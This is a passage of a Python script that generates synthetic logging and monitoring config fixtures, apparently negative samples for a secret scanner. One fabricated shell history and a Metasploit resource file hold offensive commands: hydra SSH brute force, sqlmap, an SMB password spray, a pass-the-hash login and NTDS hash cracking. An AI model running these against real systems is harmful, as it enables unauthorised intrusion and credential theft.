        "agent": {"id": "00%d" % random.randint(1, 9), "name": "web-01", "ip": ip10()},
        "syscheck": {"path": f, "mode": "realtime", "event": "modified",
                     "md5_before": H(32), "md5_after": H(32), "sha1_before": H(40), "sha1_after": H(40),
                     "sha256_before": H(64), "sha256_after": H(64), "inode_after": random.randint(100000, 999999)},
        "id": "%d.%d" % (ts(), random.randint(1000, 99999)),
    }, separators=(',', ':')))
add('v08/wazuh/logs/alerts/alerts.json', '\n'.join(alerts) + '\n')
add('v08/wazuh/docs/integrations.md', '''# Wazuh integrations

Add to the manager's `ossec.conf` (the real key is injected by the ansible role
from vault path `soc/wazuh/virustotal`):

```xml
<integration>
  <name>virustotal</name>
  <api_key>VIRUSTOTAL_API_KEY</api_key>
  <group>syscheck</group>
  <alert_format>json</alert_format>
</integration>

<integration>
  <name>slack</name>
  <hook_url>https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX</hook_url>
  <level>10</level>
</integration>
```

Agent keys (`client.keys`) are generated on enrollment and never leave the hosts.
''')

# v09 Splunk HEC docs: token format, request channels (client-chosen GUIDs), redacted log
add('v09/splunk/README.md', t('''# Sending to Splunk HEC

HEC tokens are GUIDs (8-4-4-4-12 hex). Ask #splunk-admins for one; they are
stored in Vault at `kv/splunk/hec/<app>` and mounted into pods as
`SPLUNK_HEC_TOKEN`. Config on the indexer side:

```ini
[http://my-app]
token = <GUID generated by Splunk>
index = my_app
```

Test with:

```sh
curl -sk https://hec.splunk.acme-retail.net:8088/services/collector/event \\
  -H "Authorization: Splunk ${SPLUNK_HEC_TOKEN}" \\
  -H "X-Splunk-Request-Channel: $(uuidgen)" \\
  -d '{"event": "hello", "sourcetype": "manual"}'
```

`X-Splunk-Request-Channel` is a random GUID you choose per client, it is an
identifier for indexer acknowledgement, not a credential. Example from our logs:

```
@{d} 09:12:01 INFO  HttpInputDataHandler - channel=@{ch1} ackId=@{a1} token=********-****-****-****-********@{tail}
@{d} 09:12:02 INFO  HttpInputDataHandler - channel=@{ch2} ackId=@{a2} token=********-****-****-****-********@{tail}
@{d} 09:12:09 WARN  HttpInputDataHandler - Failed processing http input, token name=n/a, channel=@{ch3}, reason=Invalid token
```
''', d=day(), ch1=u4(), ch2=u4(), ch3=u4(), a1=random.randint(1, 500), a2=random.randint(501, 999), tail=H(4)))

# v10 pentest history without credentials (wordlists, env vars, prompts)
t0 = ts()
hist = [
    'cd ~/engagements/bankone',
    'nmap -sC -sV -oA nmap/full -p- 10.50.1.0/24',
    'shodan init "$(pass show tools/shodan)"',
    'wpscan --url https://blog.bankone.io --enumerate vp,vt,u --api-token "$WPSCAN_API_TOKEN"',
    'hydra -L lists/users.txt -P /usr/share/wordlists/rockyou.txt -t 4 -o loot/hydra.txt ssh://10.50.1.23',
    "sqlmap -u 'https://staging-api.bankone.io/v1/accounts?id=2' --auth-type=Basic --auth-cred=\"$BASIC_CRED\" --batch",
    'crackmapexec smb 10.50.1.0/24 -u lists/users.txt -p lists/spray.txt --continue-on-success',
    'evil-winrm -i 10.50.1.40 -u svc_sql -H "$(cut -d: -f4 loot/svc_sql.ntds)"',
    'hashcat -m 1000 loot/ntds.hashes /usr/share/wordlists/rockyou.txt -r rules/best64.rule',
    'msfconsole -q -r post.rc',
]
add('v10/home/kali/.zsh_history', ''.join(': %d:0;%s\n' % (t0 + i * random.randint(20, 400), c) for i, c in enumerate(hist)))
add('v10/engagement/acme-internal/post.rc', '''# ACME internal pentest - day 3 (creds are set interactively: setg SMBPass <...>)
workspace -a acme_internal
setg RHOSTS 10.20.0.0/24
setg SMBDomain ACMECORP
setg SMBUser svc_backup
use auxiliary/scanner/smb/smb_login
set PASS_FILE /opt/wordlists/acme-spray.txt
set STOP_ON_SUCCESS true
run
''')

# v11 OTel collector with ${env:...} and Vector with SECRET[...] backend
add('v11/otel/otel-collector-config.yaml', '''receivers:
  otlp:
    protocols:
      grpc:
        endpoint: 0.0.0.0:4317

processors:
  batch:
    timeout: 5s

exporters:
  otlp/honeycomb:
    endpoint: api.honeycomb.io:443
    headers:
      x-honeycomb-team: ${env:HONEYCOMB_API_KEY}
  otlphttp/newrelic:
    endpoint: https://otlp.eu01.nr-data.net
    headers:
      api-key: ${env:NEW_RELIC_LICENSE_KEY}
  otlphttp/dynatrace:
    endpoint: https://abc12345.live.dynatrace.com/api/v2/otlp
    headers:
      Authorization: "Api-Token ${env:DT_API_TOKEN}"
  datadog:
    api:
      site: datadoghq.com
      key: ${env:DD_API_KEY}

service:
  pipelines:
    traces:
      receivers: [otlp]
      processors: [batch]
      exporters: [otlp/honeycomb, otlphttp/dynatrace, datadog]
''')
add('v11/vector/vector.toml', '''data_dir = "/var/lib/vector"

[secret.aws]
type = "aws_secrets_manager"
secret_id = "prod/vector"

[sources.agents]
type = "vector"
address = "0.0.0.0:6000"

[sinks.datadog]
type = "datadog_logs"
inputs = ["agents"]
default_api_key = "SECRET[aws.datadog_api_key]"
site = "datadoghq.com"

[sinks.archive]
type = "aws_s3"
inputs = ["agents"]
bucket = "log-archive-prod"
region = "us-east-2"
encoding.codec = "json"
# auth: instance profile (IMDSv2), no static keys
auth.assume_role = "arn:aws:iam::123456789012:role/vector-archive-writer"
''')

# v12 Zabbix with PSK file path and DB credentials from Vault
add('v12/etc/zabbix/zabbix_server.conf', '''############ GENERAL PARAMETERS #################
ListenPort=10051
LogFile=/var/log/zabbix/zabbix_server.log
PidFile=/run/zabbix/zabbix_server.pid

DBHost=pgsql01.mon.local
DBName=zabbix
### DBUser / DBPassword come from HashiCorp Vault:
VaultURL=https://vault.mon.local:8200
VaultDBPath=secret/zabbix/database
# VAULT_TOKEN is provided via the systemd unit's environment (AppRole login wrapper)
DBPassword=

StartPollers=20
CacheSize=512M
Timeout=10
''')
add('v12/etc/zabbix/zabbix_agentd.d/tls.conf', '''TLSConnect=psk
TLSAccept=psk
TLSPSKIdentity=PSK-web-frontends
TLSPSKFile=/etc/zabbix/zabbix_agentd.psk
''')
add('v12/docs/zabbix-agent-psk.md', '''# Agent encryption (PSK)

Generate a per-host key **on the host** and never commit it:

```sh
openssl rand -hex 32 | sudo tee /etc/zabbix/zabbix_agentd.psk >/dev/null
sudo chown zabbix:zabbix /etc/zabbix/zabbix_agentd.psk && sudo chmod 0400 /etc/zabbix/zabbix_agentd.psk
```

The file holds 64 hex characters. Then in the frontend set *Connections to host*
= PSK, identity `PSK-web-frontends`, and paste the key (`sudo cat` it, do not
put it in a ticket). API calls use a token from `Administration > API tokens`,
read at runtime: `ZBX_TOKEN=$(vault kv get -field=token secret/zabbix/api)`.
''')

write()
